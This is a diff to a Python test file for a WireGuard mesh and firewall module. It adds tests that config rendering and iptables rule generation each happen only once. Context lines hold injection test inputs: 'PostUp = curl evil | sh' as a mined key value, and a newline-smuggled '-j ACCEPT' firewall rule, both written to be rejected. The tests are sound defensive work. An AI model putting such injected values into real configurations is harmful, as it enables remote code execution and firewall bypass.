@@ -160,6 +160,45 @@ def test_a_state_run_renders_the_hosts_files_once(keydir, host, mine, monkeypatc
     assert set(record["files"]) == {item["path"] for item in staged} | {str(keydir / "wg0.key")}
 
 
+def test_a_config_planned_again_but_equal_is_not_rendered_again(keydir, mine, monkeypatch):
+    """A first apply plans the hub before its key file exists and again after the key state made
+    it: that config is a new one but equal, and its files are not rendered twice. A config that
+    differs (a gateway's key published meanwhile) is rendered."""
+    rendered = []
+    real_host_files = wgmesh_core.host_files
+    monkeypatch.setattr(wgmesh_core, "host_files", lambda cfg: rendered.append(cfg.host) or real_host_files(cfg))
+    del mine["z"], mine["c"]
+    before_key = module._host_config()
+    module.staged_files()
+    own_key(keydir)
+    after_key = module._host_config()
+    assert after_key is not before_key and after_key == before_key
+    module.staged_files()
+    assert rendered == ["z"]
+    mine["c"] = MINED["c"]
+    assert "c" in [peer.name for peer in module._host_config().peers]
+    staged = {item["path"]: pathlib.Path(item["source"]).read_text() for item in module.staged_files()}
+    assert rendered == ["z", "z"]
+    assert MINED["c"] in staged[str(keydir / "wg0.conf")]
+
+
+def test_a_state_run_makes_the_firewall_rules_once(keydir, host, mine, monkeypatch):
+    """The iptables backend's boot file and the comparison with the live chains both need the
+    rules (a hub of 10,000 developers: about 0.2 s each): a state run makes them once."""
+    made = []
+    real_grouped = wgmesh_core.firewall._grouped
+    monkeypatch.setattr(wgmesh_core.firewall, "_grouped", lambda *args: made.append(1) or real_grouped(*args))
+    private, public = own_key(keydir)
+    mine["z"] = public
+    in_sync(host, module._host_config(), private, public)
+    wgmesh_core.firewall._rules.cache_clear()     # as in a new process
+    wgmesh_core.firewall._chain_rules.cache_clear()
+    made.clear()
+    module.staged_files()
+    assert module.firewall() == {}
+    assert len(made) == 1
+
+
 def test_a_mined_value_that_is_not_a_key_is_refused_and_its_host_left_out(mine, keydir):
     mine["c"] = "PostUp = curl evil | sh"
     keys = module.host_keys()
@@ -837,7 +876,7 @@ def test_setup_is_config_without_the_peers(keydir, host, mine):
 
 def test_a_rule_with_a_newline_fails_the_firewall_before_any_change(keydir, host, mine, monkeypatch):
     fw = firewall_plan(keydir, host, mine)
-    bad = dataclasses.replace(fw, developers=[*fw.developers, "10.70.0.9/32\n-j ACCEPT"])
+    bad = dataclasses.replace(fw, developers=(*fw.developers, "10.70.0.9/32\n-j ACCEPT"))
     monkeypatch.setattr(module, "_host_config", lambda: dataclasses.replace(module._plan()[1], firewall=bad))
     with pytest.raises(CommandExecutionError, match="newline or control character"):
         module.firewall()
